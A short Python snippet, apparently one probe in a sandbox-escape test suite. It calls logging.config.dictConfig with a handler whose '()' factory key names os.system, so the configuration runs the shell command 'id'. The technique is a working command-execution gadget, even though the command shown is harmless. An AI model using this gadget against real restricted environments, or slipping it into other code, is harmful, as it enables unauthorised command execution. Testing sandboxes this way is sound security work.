# route: logging's configuration calls what it names
import logging.config


def execute(testData):
    logging.config.dictConfig({"version": 1, "handlers": {"x": {"()": "os.system", "command": "id"}}})
    return {"leak": "configured"}
